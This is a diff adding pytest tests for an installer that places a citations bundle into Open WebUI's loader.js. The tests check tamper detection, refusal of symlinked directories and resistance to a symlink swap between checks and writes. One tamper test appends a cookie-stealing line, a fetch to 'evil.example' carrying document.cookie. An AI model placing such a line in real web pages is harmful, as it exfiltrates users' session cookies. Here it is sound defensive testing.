@@ -15,6 +15,8 @@ from pathlib import Path
 
 import pytest
 
+from owui_citations import installer
+
 ROOT = Path(__file__).resolve().parent.parent
 BUILT_BUNDLE = ROOT / "extension" / "dist" / "owui-citations.js"
 ORIGINAL = ""  # Open WebUI's own loader.js is empty on every supported line
@@ -349,3 +351,66 @@ def test_a_bundle_changed_since_the_build_recorded_its_sha256_is_refused_unchang
         result = run(action, "--frontend-dir", str(frontend), "--bundle", str(bundle))
         assert result.returncode == 2 and "SHA-256" in result.stderr, (action, result.stderr)
     assert snapshot(frontend) == before
+
+
+def test_code_appended_after_the_chained_loader_is_reported_tampered(tmp_path: Path, bundle: Path) -> None:
+    frontend = make_frontend(tmp_path / "frontend", CUSTOMISED)
+    assert run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle)).returncode == 0
+    loader = frontend / "static" / "loader.js"
+    installed = loader.read_text()
+    loader.write_text(installed + "fetch('https://evil.example/?' + document.cookie);\n")
+    status = run("status", "--frontend-dir", str(frontend), "--bundle", str(bundle))
+    assert status.returncode == 1 and "TAMPERED" in status.stdout and "differs" not in status.stdout, status.stdout
+
+    result = run("install", "--frontend-dir", str(frontend), "--bundle", str(bundle))
+    assert result.returncode == 0 and "tampered" in result.stdout, result.stdout + result.stderr
+    assert loader.read_text() == installed
+
+
+# A directory on the way to loader.js, linked elsewhere: root would write there (another web
+# app's static/, say) what it meant for Open WebUI.
+@pytest.fixture
+def elsewhere(tmp_path: Path) -> Path:
+    """Another application's frontend, which the installer must never write."""
+    return make_frontend(tmp_path / "other-app", CUSTOMISED)
+
+
+@pytest.mark.parametrize("linked", ["static", "the frontend itself"])
+def test_a_directory_linked_on_the_way_to_loader_is_refused_and_its_target_untouched(
+    tmp_path: Path, bundle: Path, elsewhere: Path, linked: str
+) -> None:
+    if linked == "static":
+        frontend = make_frontend(tmp_path / "frontend")
+        shutil.rmtree(frontend / "static")
+        link = frontend / "static"
+        link.symlink_to(elsewhere / "static", target_is_directory=True)
+    else:
+        link = frontend = tmp_path / "frontend"
+        frontend.symlink_to(elsewhere, target_is_directory=True)
+    before = snapshot(elsewhere)
+    for action in ("install", "status", "uninstall"):
+        bundle_args = ["--bundle", str(bundle)] if action != "uninstall" else []
+        result = run(action, "--frontend-dir", str(frontend), *bundle_args)
+        assert result.returncode == 2 and f"{link} is a symbolic link" in result.stderr, (action, result.stderr)
+    assert snapshot(elsewhere) == before
+    if linked != "static":  # the admin who made the link is told which directory to name instead
+        assert f"--frontend-dir {elsewhere}" in result.stderr
+
+
+def test_static_swapped_for_a_link_after_the_checks_does_not_redirect_the_writes(
+    frontend: Path, bundle: Path, elsewhere: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    checked = frontend / "static.checked"
+    load_bundle = installer.load_bundle
+
+    def swap_static_then_load_bundle(path: Path) -> tuple[bytes, str]:
+        # Between the checks of the frontend and the first write: static/ moves, a link takes its place.
+        (frontend / "static").rename(checked)
+        (frontend / "static").symlink_to(elsewhere / "static", target_is_directory=True)
+        return load_bundle(path)
+
+    monkeypatch.setattr(installer, "load_bundle", swap_static_then_load_bundle)
+    before = snapshot(elsewhere)
+    installer.install(frontend, bundle)
+    assert snapshot(elsewhere) == before
+    assert (checked / "loader.js").read_text() == bundle.read_text()  # written in the directory it checked
